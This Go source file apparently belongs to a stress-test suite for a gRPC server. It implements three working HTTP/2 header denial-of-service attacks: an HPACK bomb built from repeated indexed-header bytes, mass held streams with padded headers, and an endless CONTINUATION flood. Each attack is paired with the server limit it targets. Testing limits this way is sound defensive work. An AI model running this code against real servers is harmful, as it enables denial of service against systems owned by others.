package hostile

import (
	"bytes"
	"context"
	"io"
	"strings"

	"golang.org/x/net/http2/hpack"
)

// headerAttacks are calls of gRPC with hostile headers.
func headerAttacks() []attack {
	return []attack{
		{
			name:  "indexed_headers",
			how:   "4 connections with 100 streams send 60 000 headers, each one byte in place of 4 KB (an HPACK bomb)",
			bound: "header list of 16 KiB",
			run:   indexedHeaders,
		},
		{
			name:  "held_headers",
			grpc:  heldStreams,
			how:   "200 connections hold 100 streams with 15 KB of headers open",
			bound: "header list of 16 KiB, 1024 streams of a connection, `--max-bytes-in-flight`",
			run:   heldHeaders,
		},
		{
			name:  "endless_headers",
			how:   "50 connections send a header block that never ends (a CONTINUATION flood)",
			bound: "header list of 16 KiB",
			run:   endlessHeaders,
		},
	}
}

func indexedHeaders(a *assault) {
	const indexed = 0x80 | 62 // the newest field of the dynamic table, RFC 7541, 2.3.3
	bytesOfFields := bytes.Repeat([]byte{indexed}, 60_000)
	a.repeat(4, func(ctx context.Context) error {
		p, err := a.raw(ctx)
		if err != nil {
			return err
		}
		p.discard()
		large := hpack.HeaderField{Name: "x", Value: strings.Repeat("v", 3900)} // the table has 4096 bytes, 32 for each field
		for range 100 {
			a.attempts.Add(1)
			if err := p.open(false, large); err != nil {
				return err
			}
			for rest := bytesOfFields; len(rest) > 0; {
				n := min(len(rest), 16<<10)
				if err := p.WriteContinuation(p.stream, n == len(rest), rest[:n]); err != nil {
					return err
				}
				rest = rest[n:]
			}
		}
		if err := p.out.Flush(); err != nil {
			return err
		}
		<-ctx.Done()
		return nil
	})
}

func heldHeaders(a *assault) {
	fields := make([]entry, 0, 300)
	for range cap(fields) {
		fields = append(fields, entry{"X-Padding", "0123456789"}) // 51 bytes of a header list, RFC 9113, 6.5.2
	}
	a.calls(200, 100, method, func(ctx context.Context) io.Reader { return stall(ctx, nil) }, fields...)
}

func endlessHeaders(a *assault) {
	var block bytes.Buffer
	fields := hpack.NewEncoder(&block)
	for range 500 {
		if err := fields.WriteField(hpack.HeaderField{Name: "x-field", Value: "some value", Sensitive: true}); err != nil { // not indexed
			a.fail(err)
		}
	}
	a.repeat(50, func(ctx context.Context) error {
		p, err := a.raw(ctx)
		if err != nil {
			return err
		}
		p.discard()
		if err := p.open(false); err != nil {
			return err
		}
		for ctx.Err() == nil {
			if err := p.WriteContinuation(p.stream, false, block.Bytes()); err != nil {
				return err
			}
		}
		return nil
	})
}
